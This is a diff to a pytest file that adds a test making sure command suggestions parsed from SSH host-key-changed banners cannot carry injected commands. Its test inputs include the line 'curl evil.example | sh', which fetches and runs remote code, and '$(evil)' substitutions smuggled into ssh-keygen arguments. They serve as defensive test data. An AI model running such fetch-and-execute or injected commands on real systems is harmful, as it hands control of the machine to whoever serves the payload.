@@ -40,6 +40,24 @@ def test_each_is_reported_with_the_command_to_run_next(stderr: str, reported: st
 
 
 @pytest.mark.parametrize(
+    ("line", "name"),
+    [
+        ("  ssh-keygen -f '/home/u/.ssh/known_hosts' -R '[app9]:2222'", "-p 2222 app9"),
+        ('  ssh-keygen -f "/home/u/.ssh/known_hosts" -R "app9"', "app9"),
+        ("ssh-keygen -f x -R x; curl evil.example | sh", "app1"),
+        ("  ssh-keygen -f 'x' -R 'x'; curl evil.example | sh", "app1"),
+        ("  ssh-keygen -f '$(evil)' -R \"$(evil)\"", "app1"),
+        ("ssh-keygen -f 'x -R evil", "app1"),
+    ],
+)
+def test_a_banner_is_no_command_to_forget_a_key(line: str, name: str) -> None:
+    stderr = f"WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!\n{line}\nPermission denied (x).\n"
+    error = ssh_error("app1", stderr, by_hand="ssh app1", status=255)
+    assert error.next_step.startswith(f"ssh-keyscan {name} | ")
+    assert "evil" not in error.next_step
+
+
+@pytest.mark.parametrize(
     ("stderr", "printed", "reason"),
     [
         (
